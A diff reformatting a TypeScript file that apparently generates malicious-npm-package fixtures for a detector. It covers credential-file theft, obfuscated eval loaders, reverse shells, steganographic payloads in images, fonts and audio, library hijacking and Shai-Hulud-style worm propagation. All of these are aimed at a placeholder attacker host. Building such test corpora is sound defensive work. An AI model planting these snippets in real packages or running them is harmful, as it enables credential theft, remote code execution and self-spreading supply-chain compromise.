@@ -222,12 +222,14 @@ const CREDENTIAL_FILES: Snippet[] = [
     after: 'a PowerShell preinstall uploading %USERPROFILE%\\.npmrc',
     delivery: 'preinstall',
     hook: 'powershell -ExecutionPolicy Bypass -File setup.ps1',
-    files: { 'setup.ps1': `$c = Get-Content "$env:USERPROFILE\\.npmrc" -Raw\n$b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($c))\nInvoke-RestMethod -Method Post -Uri "https://ps.${H}/u" -Body $b\n` },
+    files: {
+      'setup.ps1': `$c = Get-Content "$env:USERPROFILE\\.npmrc" -Raw\n$b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($c))\nInvoke-RestMethod -Method Post -Uri "https://ps.${H}/u" -Body $b\n`,
+    },
   },
   {
     id: 'project-dotenv-walk',
     family: 'credential-files',
-    after: 'the installing project\'s .env found through INIT_CWD and posted',
+    after: "the installing project's .env found through INIT_CWD and posted",
     delivery: 'postinstall',
     files: {
       'tools/env-check.js': `const fs = require('fs');\nconst path = require('path');\nconst root = process.env.INIT_CWD || process.cwd();\nlet text = '';\ntry { text = fs.readFileSync(path.join(root, '.env'), 'utf8'); } catch (e) {}\nif (text) fetch('https://env.${H}/e', { method: 'POST', body: Buffer.from(text).toString('base64') }).catch(() => {});\n`,
@@ -338,7 +340,9 @@ const DECODE_AND_RUN: Snippet[] = [
     family: 'decode-and-run',
     after: 'a single-byte XOR loop over a base64 blob, run with new Function',
     delivery: 'require-from-main',
-    files: { 'lib/cache.js': `const k = 0x5a;\nconst b = Buffer.from('${xorB64(STAGE2, 0x5a)}', 'base64');\nfor (let i = 0; i < b.length; i++) b[i] ^= k;\nnew Function(b.toString())();\n` },
+    files: {
+      'lib/cache.js': `const k = 0x5a;\nconst b = Buffer.from('${xorB64(STAGE2, 0x5a)}', 'base64');\nfor (let i = 0; i < b.length; i++) b[i] ^= k;\nnew Function(b.toString())();\n`,
+    },
   },
   {
     id: 'rot13-eval',
@@ -352,14 +356,18 @@ const DECODE_AND_RUN: Snippet[] = [
     family: 'decode-and-run',
     after: 'a Caesar shift over char codes, run through Function',
     delivery: 'postinstall',
-    files: { 'lib/post.js': `const enc = ${JSON.stringify(shift(STAGE2, 3))};\nlet src = '';\nfor (const ch of enc) src += String.fromCharCode(ch.charCodeAt(0) - 3);\nFunction(src)();\n` },
+    files: {
+      'lib/post.js': `const enc = ${JSON.stringify(shift(STAGE2, 3))};\nlet src = '';\nfor (const ch of enc) src += String.fromCharCode(ch.charCodeAt(0) - 3);\nFunction(src)();\n`,
+    },
   },
   {
     id: 'base64-vm',
     family: 'decode-and-run',
     after: 'base64 decoded and run through vm.runInThisContext',
     delivery: 'require-from-main',
-    files: { 'lib/runtime.js': `const vm = require('vm');\nconst code = Buffer.from('${b64(STAGE2)}', 'base64').toString('utf8');\nvm.runInThisContext(code);\n` },
+    files: {
+      'lib/runtime.js': `const vm = require('vm');\nconst code = Buffer.from('${b64(STAGE2)}', 'base64').toString('utf8');\nvm.runInThisContext(code);\n`,
+    },
   },
   {
     id: 'packer-classic',
@@ -389,14 +397,18 @@ const DECODE_AND_RUN: Snippet[] = [
     family: 'decode-and-run',
     after: 'a payload decoded into a temporary file and required',
     delivery: 'postinstall',
-    files: { 'install.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst p = path.join(os.tmpdir(), '.cache-' + process.pid + '.js');\nfs.writeFileSync(p, Buffer.from('${b64(STAGE2)}', 'base64'));\nrequire(p);\n` },
+    files: {
+      'install.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst p = path.join(os.tmpdir(), '.cache-' + process.pid + '.js');\nfs.writeFileSync(p, Buffer.from('${b64(STAGE2)}', 'base64'));\nrequire(p);\n`,
+    },
   },
   {
     id: 'module-compile',
     family: 'decode-and-run',
     after: 'decoded text compiled as a module through Module.prototype._compile',
     delivery: 'require-from-main',
-    files: { 'lib/loader.js': `const Module = module.constructor;\nconst m = new Module('x');\nm._compile(Buffer.from('${b64(STAGE2)}', 'base64').toString(), 'x.js');\n` },
+    files: {
+      'lib/loader.js': `const Module = module.constructor;\nconst m = new Module('x');\nm._compile(Buffer.from('${b64(STAGE2)}', 'base64').toString(), 'x.js');\n`,
+    },
   },
   {
     id: 'charcode-xor-array',
@@ -410,7 +422,9 @@ const DECODE_AND_RUN: Snippet[] = [
     family: 'decode-and-run',
     after: 'a reversed base64 string decoded with atob and evaluated indirectly',
     delivery: 'require-from-main',
-    files: { 'lib/compat.js': `const s = '${b64(STAGE2).split('').reverse().join('')}';\nconst code = atob(s.split('').reverse().join(''));\n(0, eval)(code);\n` },
+    files: {
+      'lib/compat.js': `const s = '${b64(STAGE2).split('').reverse().join('')}';\nconst code = atob(s.split('').reverse().join(''));\n(0, eval)(code);\n`,
+    },
   },
 ];
 
@@ -420,23 +434,27 @@ const REFLECTIVE: Snippet[] = [
   {
     id: 'global-require-concat',
     family: 'reflective-access',
-    after: 'global[\'req\'+\'uire\'] and a module name split in pieces',
+    after: "global['req'+'uire'] and a module name split in pieces",
     delivery: 'append-main',
     code: `\n;try{global['req'+'uire']('chi'+'ld_pro'+'cess')['ex'+'ecSync']('curl -s https://k.${H}/i | sh');}catch(e){}\n`,
   },
   {
     id: 'reflect-get-eval',
     family: 'reflective-access',
-    after: 'Reflect.get(globalThis, \'ev\'+\'al\') on fetched code',
+    after: "Reflect.get(globalThis, 'ev'+'al') on fetched code",
     delivery: 'require-from-main',
-    files: { 'lib/plugins.js': `fetch('https://cdn.${H}/plugin.js').then((r) => r.text()).then((t) => Reflect.get(globalThis, 'ev' + 'al')(t)).catch(() => {});\n` },
+    files: {
+      'lib/plugins.js': `fetch('https://cdn.${H}/plugin.js').then((r) => r.text()).then((t) => Reflect.get(globalThis, 'ev' + 'al')(t)).catch(() => {});\n`,
+    },
   },
   {
     id: 'join-module-name',
     family: 'reflective-access',
     after: 'a module name joined from an array',
     delivery: 'postinstall',
-    files: { 'scripts/prepare-env.js': `const name = ['child', 'process'].join('_');\nconst cp = require(name);\ncp.exec('wget -qO- https://k.${H}/x | sh');\n` },
+    files: {
+      'scripts/prepare-env.js': `const name = ['child', 'process'].join('_');\nconst cp = require(name);\ncp.exec('wget -qO- https://k.${H}/x | sh');\n`,
+    },
   },
   {
     id: 'fromcharcode-global-eval',
@@ -450,12 +468,14 @@ const REFLECTIVE: Snippet[] = [
     family: 'reflective-access',
     after: 'process.mainModule.constructor._load to reach child_process',
     delivery: 'require-from-main',
-    files: { 'lib/env.js': `const load = process['mainModule'].constructor['_load'];\nconst cp = load('child' + '_process');\ncp['spawn']('sh', ['-c', 'curl https://k.${H}/s | sh'], { stdio: 'ignore' });\n` },
+    files: {
+      'lib/env.js': `const load = process['mainModule'].constructor['_load'];\nconst cp = load('child' + '_process');\ncp['spawn']('sh', ['-c', 'curl https://k.${H}/s | sh'], { stdio: 'ignore' });\n`,
+    },
   },
   {
     id: 'constructor-escape',
     family: 'reflective-access',
-    after: 'this.constructor.constructor(\'return process\') (a sandbox escape) then child_process',
+    after: "this.constructor.constructor('return process') (a sandbox escape) then child_process",
     delivery: 'append-main',
     code: `\n;(function(){var p=this.constructor.constructor('return pro'+'cess')();p.mainModule.require('child_'+'process').exec('id > /tmp/.o');}).call({});\n`,
   },
@@ -471,7 +491,9 @@ const REFLECTIVE: Snippet[] = [
     family: 'reflective-access',
     after: 'Reflect.apply on a spawn reached through computed names',
     delivery: 'postinstall',
-    files: { 'post.js': `const m = require('c' + 'hild_process');\nReflect.apply(m['spa' + 'wn'], null, ['sh', ['-c', 'curl https://k.${H}/r | sh'], { stdio: 'ignore' }]);\n` },
+    files: {
+      'post.js': `const m = require('c' + 'hild_process');\nReflect.apply(m['spa' + 'wn'], null, ['sh', ['-c', 'curl https://k.${H}/r | sh'], { stdio: 'ignore' }]);\n`,
+    },
   },
   {
     id: 'char-join-exec',
@@ -483,9 +505,11 @@ const REFLECTIVE: Snippet[] = [
   {
     id: 'process-binding-spawn',
     family: 'reflective-access',
-    after: 'process.binding(\'spawn_sync\') reached by a computed name',
+    after: "process.binding('spawn_sync') reached by a computed name",
     delivery: 'require-from-main',
-    files: { 'lib/native.js': `const b = process['bin' + 'ding']('spawn_sync');\nb.spawn({ file: '/bin/sh', args: ['sh', '-c', 'curl https://k.${H}/b | sh'], stdio: [{ type: 'pipe', readable: true }] });\n` },
+    files: {
+      'lib/native.js': `const b = process['bin' + 'ding']('spawn_sync');\nb.spawn({ file: '/bin/sh', args: ['sh', '-c', 'curl https://k.${H}/b | sh'], stdio: [{ type: 'pipe', readable: true }] });\n`,
+    },
   },
 ];
 
@@ -495,7 +519,7 @@ const SILENT_LAUNCH: Snippet[] = [
   {
     id: 'detached-worker',
     family: 'silent-launch',
-    after: 'Mini Shai-Hulud setup_bun.js: a detached, ignored, unref\'d process on a new file',
+    after: "Mini Shai-Hulud setup_bun.js: a detached, ignored, unref'd process on a new file",
     delivery: 'postinstall',
     files: {
       'scripts/setup.js': `const { spawn } = require('child_process');\nconst path = require('path');\nspawn(process.execPath, [path.join(__dirname, 'worker.js')], { detached: true, stdio: 'ignore' }).unref();\n`,
@@ -507,14 +531,20 @@ const SILENT_LAUNCH: Snippet[] = [
     family: 'silent-launch',
     after: 'cmd start /b with windowsHide',
     delivery: 'postinstall',
-    files: { 'scripts/win.js': `const cp = require('child_process');\nconst path = require('path');\ncp.spawn('cmd.exe', ['/c', 'start', '/b', path.join(__dirname, 'svc.exe')], { windowsHide: true, detached: true });\n`, 'scripts/svc.exe': Buffer.from('4d5a9000030000000400', 'hex') },
+    files: {
+      'scripts/win.js': `const cp = require('child_process');\nconst path = require('path');\ncp.spawn('cmd.exe', ['/c', 'start', '/b', path.join(__dirname, 'svc.exe')], { windowsHide: true, detached: true });\n`,
+      'scripts/svc.exe': Buffer.from('4d5a9000030000000400', 'hex'),
+    },
   },
   {
     id: 'nohup-background',
     family: 'silent-launch',
     after: 'nohup … & from exec',
     delivery: 'require-from-main',
-    files: { 'lib/daemon.js': `require('child_process').exec('nohup node ' + __dirname + '/.cache.js > /dev/null 2>&1 &');\n`, 'lib/.cache.js': `setInterval(function(){require('https').get('https://beat.${H}/n').on('error',function(){});},30000);\n` },
+    files: {
+      'lib/daemon.js': `require('child_process').exec('nohup node ' + __dirname + '/.cache.js > /dev/null 2>&1 &');\n`,
+      'lib/.cache.js': `setInterval(function(){require('https').get('https://beat.${H}/n').on('error',function(){});},30000);\n`,
+    },
   },
   {
     id: 'fork-silent-detached',
@@ -529,21 +559,28 @@ const SILENT_LAUNCH: Snippet[] = [
     after: 'setsid and output to /dev/null in an install script',
     delivery: 'install',
     hook: 'sh scripts/install.sh',
-    files: { 'scripts/install.sh': `#!/bin/sh\nsetsid node ./scripts/agent.js >/dev/null 2>&1 < /dev/null &\nexit 0\n`, 'scripts/agent.js': `setInterval(function(){require('https').get('https://beat.${H}/a').on('error',function(){});},60000);\n` },
+    files: {
+      'scripts/install.sh': `#!/bin/sh\nsetsid node ./scripts/agent.js >/dev/null 2>&1 < /dev/null &\nexit 0\n`,
+      'scripts/agent.js': `setInterval(function(){require('https').get('https://beat.${H}/a').on('error',function(){});},60000);\n`,
+    },
   },
   {
     id: 'powershell-hidden',
     family: 'silent-launch',
     after: 'Start-Process -WindowStyle Hidden',
     delivery: 'postinstall',
-    files: { 'post.js': `const { execSync } = require('child_process');\nif (process.platform === 'win32') execSync('powershell -NoProfile -Command "Start-Process -WindowStyle Hidden -FilePath node -ArgumentList \\'' + __dirname + '\\\\upd.js\\'"');\n` },
+    files: {
+      'post.js': `const { execSync } = require('child_process');\nif (process.platform === 'win32') execSync('powershell -NoProfile -Command "Start-Process -WindowStyle Hidden -FilePath node -ArgumentList \\'' + __dirname + '\\\\upd.js\\'"');\n`,
+    },
   },
   {
     id: 'node-e-detached',
     family: 'silent-launch',
     after: 'node -e code launched detached with every stream ignored',
     delivery: 'require-from-main',
-    files: { 'lib/warmup.js': `const { spawn } = require('child_process');\nconst code = "setInterval(()=>require('https').get('https://beat.${H}/w'),6e4)";\nspawn(process.execPath, ['-e', code], { detached: true, stdio: ['ignore', 'ignore', 'ignore'] }).unref();\n` },
+    files: {
+      'lib/warmup.js': `const { spawn } = require('child_process');\nconst code = "setInterval(()=>require('https').get('https://beat.${H}/w'),6e4)";\nspawn(process.execPath, ['-e', code], { detached: true, stdio: ['ignore', 'ignore', 'ignore'] }).unref();\n`,
+    },
   },
   {
     id: 'library-hidden-launch',
@@ -557,7 +594,9 @@ const SILENT_LAUNCH: Snippet[] = [
     family: 'silent-launch',
     after: 'a binary in the temp folder run hidden',
     delivery: 'postinstall',
-    files: { 'scripts/run.js': `const { execFile } = require('child_process');\nconst path = require('path');\nconst os = require('os');\nconst bin = path.join(os.tmpdir(), 'updater');\nexecFile(bin, [], { windowsHide: true, detached: true, stdio: 'ignore' }, () => {}).unref();\n` },
+    files: {
+      'scripts/run.js': `const { execFile } = require('child_process');\nconst path = require('path');\nconst os = require('os');\nconst bin = path.join(os.tmpdir(), 'updater');\nexecFile(bin, [], { windowsHide: true, detached: true, stdio: 'ignore' }, () => {}).unref();\n`,
+    },
   },
 ];
 
@@ -569,28 +608,36 @@ const HIJACK: Snippet[] = [
     family: 'hijack',
     after: 'writing /etc/ld.so.preload (every process loads the library)',
     delivery: 'postinstall',
-    files: { 'install.js': `const fs = require('fs');\nconst path = require('path');\ntry { fs.appendFileSync('/etc/ld.so.preload', path.join(__dirname, 'build', 'libhook.so') + '\\n'); } catch (e) {}\n` },
+    files: {
+      'install.js': `const fs = require('fs');\nconst path = require('path');\ntry { fs.appendFileSync('/etc/ld.so.preload', path.join(__dirname, 'build', 'libhook.so') + '\\n'); } catch (e) {}\n`,
+    },
   },
   {
     id: 'ld-preload-env',
     family: 'hijack',
     after: 'LD_PRELOAD set for a spawned program',
     delivery: 'require-from-main',
-    files: { 'lib/run.js': `const { spawnSync } = require('child_process');\nconst path = require('path');\nspawnSync('git', ['status'], { env: Object.assign({}, process.env, { LD_PRELOAD: path.join(__dirname, 'libgit.so') }) });\n` },
+    files: {
+      'lib/run.js': `const { spawnSync } = require('child_process');\nconst path = require('path');\nspawnSync('git', ['status'], { env: Object.assign({}, process.env, { LD_PRELOAD: path.join(__dirname, 'libgit.so') }) });\n`,
+    },
   },
   {
     id: 'dyld-insert',
     family: 'hijack',
     after: 'DYLD_INSERT_LIBRARIES on macOS',
     delivery: 'postinstall',
-    files: { 'scripts/mac.js': `const { exec } = require('child_process');\nexec('DYLD_INSERT_LIBRARIES=' + __dirname + '/libx.dylib /Applications/Slack.app/Contents/MacOS/Slack &');\n` },
+    files: {
+      'scripts/mac.js': `const { exec } = require('child_process');\nexec('DYLD_INSERT_LIBRARIES=' + __dirname + '/libx.dylib /Applications/Slack.app/Contents/MacOS/Slack &');\n`,
+    },
   },
   {
     id: 'rundll32-dll',
     family: 'hijack',
     after: 'rundll32 running a DLL shipped in the package',
     delivery: 'postinstall',
-    files: { 'scripts/win-setup.js': `const { execSync } = require('child_process');\nconst path = require('path');\nif (process.platform === 'win32') { try { execSync('rundll32.exe ' + path.join(__dirname, 'helper.dll') + ',DllRegisterServer'); } catch (e) {} }\n` },
+    files: {
+      'scripts/win-setup.js': `const { execSync } = require('child_process');\nconst path = require('path');\nif (process.platform === 'win32') { try { execSync('rundll32.exe ' + path.join(__dirname, 'helper.dll') + ',DllRegisterServer'); } catch (e) {} }\n`,
+    },
   },
   {
     id: 'regsvr32-scrobj',
@@ -605,7 +652,10 @@ const HIJACK: Snippet[] = [
     family: 'hijack',
     after: 'DLL side-loading: a DLL copied next to an application that loads it by name',
     delivery: 'postinstall',
-    files: { 'scripts/compat.js': `const fs = require('fs');\nconst path = require('path');\nconst dir = path.join(process.env.LOCALAPPDATA || '', 'Microsoft', 'Teams', 'current');\ntry { fs.copyFileSync(path.join(__dirname, 'version.dll'), path.join(dir, 'version.dll')); } catch (e) {}\n`, 'scripts/version.dll': Buffer.from('4d5a90000300000004000000ffff0000', 'hex') },
+    files: {
+      'scripts/compat.js': `const fs = require('fs');\nconst path = require('path');\nconst dir = path.join(process.env.LOCALAPPDATA || '', 'Microsoft', 'Teams', 'current');\ntry { fs.copyFileSync(path.join(__dirname, 'version.dll'), path.join(dir, 'version.dll')); } catch (e) {}\n`,
+      'scripts/version.dll': Buffer.from('4d5a90000300000004000000ffff0000', 'hex'),
+    },
   },
   {
     id: 'mshta-remote',
@@ -633,7 +683,10 @@ const HIJACK: Snippet[] = [
 
 // ---------------------------------------------------------------- malicious: data hidden in images and binary files
 
-const PNG_HEAD = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da636460f80f0001040100f5e1d1b40000000049454e44ae426082', 'hex');
+const PNG_HEAD = Buffer.from(
+  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da636460f80f0001040100f5e1d1b40000000049454e44ae426082',
+  'hex',
+);
 const withTail = (img: Buffer, tail: string) => Buffer.concat([img, Buffer.from(tail)]);
 /** A "pixel" payload: each byte of the code spread over the low bits of 4 bytes. */
 function lsbEncode(code: string): Buffer {
@@ -648,30 +701,42 @@ const STEGANOGRAPHY: Snippet[] = [
   {
     id: 'png-tail-eval',
     family: 'steganography',
-    after: 'GuardDog npm-steganography: code appended after a PNG\'s IEND chunk, read and evaluated',
+    after: "GuardDog npm-steganography: code appended after a PNG's IEND chunk, read and evaluated",
     delivery: 'require-from-main',
-    files: { 'lib/logo.js': `const fs = require('fs');\nconst path = require('path');\nconst img = fs.readFileSync(path.join(__dirname, '..', 'assets', 'logo.png'));\nconst payload = img.slice(img.indexOf('IEND') + 8).toString();\neval(payload);\n`, 'assets/logo.png': withTail(PNG_HEAD, STAGE2) },
+    files: {
+      'lib/logo.js': `const fs = require('fs');\nconst path = require('path');\nconst img = fs.readFileSync(path.join(__dirname, '..', 'assets', 'logo.png'));\nconst payload = img.slice(img.indexOf('IEND') + 8).toString();\neval(payload);\n`,
+      'assets/logo.png': withTail(PNG_HEAD, STAGE2),
+    },
   },
   {
     id: 'ico-lsb-function',
     family: 'steganography',
-    after: 'low bits of an icon\'s pixels reassembled into code',
+    after: "low bits of an icon's pixels reassembled into code",
     delivery: 'postinstall',
-    files: { 'scripts/icon.js': `const fs = require('fs');\nconst d = fs.readFileSync(__dirname + '/../media/icon.ico');\nconst bytes = [];\nfor (let i = 59; i + 3 < d.length; i += 4) bytes.push(((d[i] & 3) << 6) | ((d[i + 1] & 3) << 4) | ((d[i + 2] & 3) << 2) | (d[i + 3] & 3));\nnew Function(Buffer.from(bytes).toString())();\n`, 'media/icon.ico': lsbEncode(STAGE2) },
+    files: {
+      'scripts/icon.js': `const fs = require('fs');\nconst d = fs.readFileSync(__dirname + '/../media/icon.ico');\nconst bytes = [];\nfor (let i = 59; i + 3 < d.length; i += 4) bytes.push(((d[i] & 3) << 6) | ((d[i + 1] & 3) << 4) | ((d[i + 2] & 3) << 2) | (d[i + 3] & 3));\nnew Function(Buffer.from(bytes).toString())();\n`,
+      'media/icon.ico': lsbEncode(STAGE2),
+    },
   },
   {
     id: 'font-tail-vm',
     family: 'steganography',
-    after: 'a base64 payload after a font\'s data, run in a vm context',
+    after: "a base64 payload after a font's data, run in a vm context",
     delivery: 'require-from-main',
-    files: { 'lib/fonts.js': `const fs = require('fs');\nconst vm = require('vm');\nconst f = fs.readFileSync(require.resolve('../fonts/inter.woff2'), 'latin1');\nconst code = Buffer.from(f.split('##')[1] || '', 'base64').toString();\nvm.runInNewContext(code, { require, process });\n`, 'fonts/inter.woff2': withTail(Buffer.from('774f4632000100000000', 'hex'), `##${b64(STAGE2)}`) },
+    files: {
+      'lib/fonts.js': `const fs = require('fs');\nconst vm = require('vm');\nconst f = fs.readFileSync(require.resolve('../fonts/inter.woff2'), 'latin1');\nconst code = Buffer.from(f.split('##')[1] || '', 'base64').toString();\nvm.runInNewContext(code, { require, process });\n`,
+      'fonts/inter.woff2': withTail(Buffer.from('774f4632000100000000', 'hex'), `##${b64(STAGE2)}`),
+    },
   },
   {
     id: 'bin-xor-require',
     family: 'steganography',
     after: 'a "data" file XOR-decoded, written out and required',
     delivery: 'postinstall',
-    files: { 'install.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst raw = fs.readFileSync(path.join(__dirname, 'data', 'table.bin'));\nfor (let i = 0; i < raw.length; i++) raw[i] ^= 0x2f;\nconst out = path.join(os.tmpdir(), 'tbl-' + Date.now() + '.js');\nfs.writeFileSync(out, raw);\nrequire(out);\n`, 'data/table.bin': Buffer.from([...Buffer.from(STAGE2)].map((c) => c ^ 0x2f)) },
+    files: {
+      'install.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst raw = fs.readFileSync(path.join(__dirname, 'data', 'table.bin'));\nfor (let i = 0; i < raw.length; i++) raw[i] ^= 0x2f;\nconst out = path.join(os.tmpdir(), 'tbl-' + Date.now() + '.js');\nfs.writeFileSync(out, raw);\nrequire(out);\n`,
+      'data/table.bin': Buffer.from([...Buffer.from(STAGE2)].map((c) => c ^ 0x2f)),
+    },
   },
   {
     id: 'jpg-marker-atob',
@@ -686,28 +751,42 @@ const STEGANOGRAPHY: Snippet[] = [
     family: 'steganography',
     after: 'an image downloaded and the code after its end evaluated',
     delivery: 'require-from-main',
-    files: { 'lib/avatar.js': `const https = require('https');\nhttps.get('https://img.${H}/a.png', (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => { const b = Buffer.concat(chunks); const i = b.lastIndexOf('IEND'); new Function(b.slice(i + 8).toString('utf8'))(); }); }).on('error', () => {});\n` },
+    files: {
+      'lib/avatar.js': `const https = require('https');\nhttps.get('https://img.${H}/a.png', (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => { const b = Buffer.concat(chunks); const i = b.lastIndexOf('IEND'); new Function(b.slice(i + 8).toString('utf8'))(); }); }).on('error', () => {});\n`,
+    },
   },
   {
     id: 'invisible-unicode-eval',
     family: 'steganography',
     after: 'os-info-checker-es6 / GlassWorm: code hidden as invisible Unicode characters, decoded and evaluated',
     delivery: 'require-from-main',
-    files: { 'lib/strings.js': `const s = '${invisible(STAGE2)}';\nconst bytes = [...s].map((c) => { const p = c.codePointAt(0); return p >= 0xe0100 ? p - 0xe0100 + 16 : p - 0xfe00; });\neval(Buffer.from(bytes).toString('utf8'));\n` },
+    files: {
+      'lib/strings.js': `const s = '${invisible(STAGE2)}';\nconst bytes = [...s].map((c) => { const p = c.codePointAt(0); return p >= 0xe0100 ? p - 0xe0100 + 16 : p - 0xfe00; });\neval(Buffer.from(bytes).toString('utf8'));\n`,
+    },
   },
   {
     id: 'gif-comment-exec',
     family: 'steganography',
     after: 'a command stored in a GIF comment block and run',
     delivery: 'postinstall',
-    files: { 'scripts/gif.js': `const fs = require('fs');\nconst { exec } = require('child_process');\nconst g = fs.readFileSync(__dirname + '/spinner.gif');\nconst at = g.indexOf(Buffer.from([0x21, 0xfe]));\nconst cmd = g.slice(at + 3, at + 3 + g[at + 2]).toString();\nexec(cmd);\n`, 'scripts/spinner.gif': Buffer.concat([Buffer.from('474946383961010001000000002c', 'hex'), Buffer.from([0x21, 0xfe, 40]), Buffer.from(`curl -s https://g.${H}/x | sh`.padEnd(40))]) },
+    files: {
+      'scripts/gif.js': `const fs = require('fs');\nconst { exec } = require('child_process');\nconst g = fs.readFileSync(__dirname + '/spinner.gif');\nconst at = g.indexOf(Buffer.from([0x21, 0xfe]));\nconst cmd = g.slice(at + 3, at + 3 + g[at + 2]).toString();\nexec(cmd);\n`,
+      'scripts/spinner.gif': Buffer.concat([
+        Buffer.from('474946383961010001000000002c', 'hex'),
+        Buffer.from([0x21, 0xfe, 40]),
+        Buffer.from(`curl -s https://g.${H}/x | sh`.padEnd(40)),
+      ]),
+    },
   },
   {
     id: 'wav-samples-function',
     family: 'steganography',
     after: 'audio samples carrying base64 text, decoded and run',
     delivery: 'require-from-main',
-    files: { 'lib/sound.js': `const fs = require('fs');\nconst path = require('path');\nconst w = fs.readFileSync(path.join(__dirname, 'ding.wav'));\nconst text = w.subarray(44).toString('ascii').replace(/[^A-Za-z0-9+/=]/g, '');\nFunction(Buffer.from(text, 'base64').toString())();\n`, 'lib/ding.wav': Buffer.concat([Buffer.from('52494646', 'hex'), Buffer.alloc(40), Buffer.from(b64(STAGE2))]) },
+    files: {
+      'lib/sound.js': `const fs = require('fs');\nconst path = require('path');\nconst w = fs.readFileSync(path.join(__dirname, 'ding.wav'));\nconst text = w.subarray(44).toString('ascii').replace(/[^A-Za-z0-9+/=]/g, '');\nFunction(Buffer.from(text, 'base64').toString())();\n`,
+      'lib/ding.wav': Buffer.concat([Buffer.from('52494646', 'hex'), Buffer.alloc(40), Buffer.from(b64(STAGE2))]),
+    },
   },
 ];
 
@@ -717,7 +796,7 @@ const WORM: Snippet[] = [
   {
     id: 'worm-no-token',
     family: 'worm',
-    after: 'Shai-Hulud propagation without reading a token (npm uses the user\'s login)',
+    after: "Shai-Hulud propagation without reading a token (npm uses the user's login)",
     delivery: 'postinstall',
     files: {
       'bundle.js': `const fs = require('fs'), path = require('path'), { execSync } = require('child_process');\nconst root = path.resolve(process.env.INIT_CWD || '.');\nconst pj = path.join(root, 'package.json');\nconst m = JSON.parse(fs.readFileSync(pj, 'utf8'));\nconst v = m.version.split('.'); v[2] = String(+v[2] + 1); m.version = v.join('.');\nm.scripts = Object.assign({}, m.scripts, { postinstall: 'node bundle.js' });\nfs.writeFileSync(pj, JSON.stringify(m, null, 2));\nfs.copyFileSync(__filename, path.join(root, 'bundle.js'));\ntry { execSync('npm publish', { cwd: root, stdio: 'ignore' }); } catch (e) {}\n`,
@@ -771,7 +850,7 @@ const WORM: Snippet[] = [
   {
     id: 'worm-github-workflow',
     family: 'worm',
-    after: 'Shai-Hulud\'s GitHub side: a workflow written and pushed with the token',
+    after: "Shai-Hulud's GitHub side: a workflow written and pushed with the token",
     delivery: 'postinstall',
     files: {
       'bundle.js': `const fs = require('fs');\nconst { execSync } = require('child_process');\nconst t = process.env.GITHUB_TOKEN || process.env.GH_TOKEN;\nfs.mkdirSync('.github/workflows', { recursive: true });\nfs.writeFileSync('.github/workflows/shai-hulud.yml', 'on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d "$(echo \${{ toJSON(secrets) }} | base64)" https://w.${H}\\n');\nexecSync('git add -A && git commit -m ci && git push https://x:' + t + '@github.com/victim/repo.git HEAD', { stdio: 'ignore' });\n`,
@@ -803,7 +882,9 @@ const DOWNLOAD_AND_RUN: Snippet[] = [
     family: 'download-and-run',
     after: 'a binary downloaded, made executable and run on install',
     delivery: 'postinstall',
-    files: { 'scripts/get.js': `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');\nconst { execFile } = require('child_process');\nconst dst = path.join(os.tmpdir(), 'node-helper');\nhttps.get('https://dl.${H}/helper-' + process.platform, (r) => { const f = fs.createWriteStream(dst); r.pipe(f); f.on('finish', () => { fs.chmodSync(dst, 0o755); execFile(dst); }); }).on('error', () => {});\n` },
+    files: {
+      'scripts/get.js': `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');\nconst { execFile } = require('child_process');\nconst dst = path.join(os.tmpdir(), 'node-helper');\nhttps.get('https://dl.${H}/helper-' + process.platform, (r) => { const f = fs.createWriteStream(dst); r.pipe(f); f.on('finish', () => { fs.chmodSync(dst, 0o755); execFile(dst); }); }).on('error', () => {});\n`,
+    },
   },
   {
     id: 'curl-pipe-sh',
@@ -825,7 +906,9 @@ const DOWNLOAD_AND_RUN: Snippet[] = [
     family: 'download-and-run',
     after: 'a reverse shell: a socket piped into /bin/sh',
     delivery: 'require-from-main',
-    files: { 'lib/debug.js': `const net = require('net');\nconst { spawn } = require('child_process');\nconst s = net.connect(4444, 'c2.${H}', () => { const sh = spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s); });\ns.on('error', () => {});\n` },
+    files: {
+      'lib/debug.js': `const net = require('net');\nconst { spawn } = require('child_process');\nconst s = net.connect(4444, 'c2.${H}', () => { const sh = spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s); });\ns.on('error', () => {});\n`,
+    },
   },
   {
     id: 'wget-chmod-run',
@@ -848,7 +931,9 @@ const DOWNLOAD_AND_RUN: Snippet[] = [
     family: 'download-and-run',
     after: 'an HTTP response body run through new Function',
     delivery: 'require-from-main',
-    files: { 'lib/remote-config.js': `require('http').get('http://cfg.${H}/c', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => new Function(d)()); }).on('error', () => {});\n` },
+    files: {
+      'lib/remote-config.js': `require('http').get('http://cfg.${H}/c', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => new Function(d)()); }).on('error', () => {});\n`,
+    },
   },
   {
     id: 'python-inline-exec',
@@ -863,7 +948,9 @@ const DOWNLOAD_AND_RUN: Snippet[] = [
     family: 'download-and-run',
     after: 'a release asset fetched and started detached',
     delivery: 'postinstall',
-    files: { 'install/run.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst { spawn } = require('child_process');\n(async () => {\n  const res = await fetch('https://releases.${H}/agent/latest/' + os.platform());\n  const p = path.join(os.homedir(), '.local', 'bin', 'agentd');\n  fs.writeFileSync(p, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });\n  spawn(p, { detached: true, stdio: 'ignore' }).unref();\n})().catch(() => {});\n` },
+    files: {
